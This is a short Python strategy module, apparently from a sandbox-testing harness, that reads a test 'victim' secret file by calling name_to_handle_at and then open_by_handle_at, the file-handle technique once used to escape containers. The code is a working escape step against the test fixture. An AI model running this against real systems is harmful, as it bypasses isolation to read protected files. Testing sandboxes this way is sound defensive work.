"""Opens a file by its handle, as containers were once escaped from."""

import ctypes
import os
import struct

from victim import FOLDER, SECRET_FILE, libc, number

from bgagent.engine.strategy import Strategy

NEEDS_ROOT = True


class S(Strategy):
    def init(self):
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
        place = ctypes.c_int()
        libc.syscall(number("name_to_handle_at"), -100, SECRET_FILE.encode(), handle, ctypes.byref(place), 0)
        folder = os.open(FOLDER, os.O_RDONLY)
        opened = libc.syscall(number("open_by_handle_at"), folder, handle, os.O_RDONLY)
        print(os.read(opened, 99))
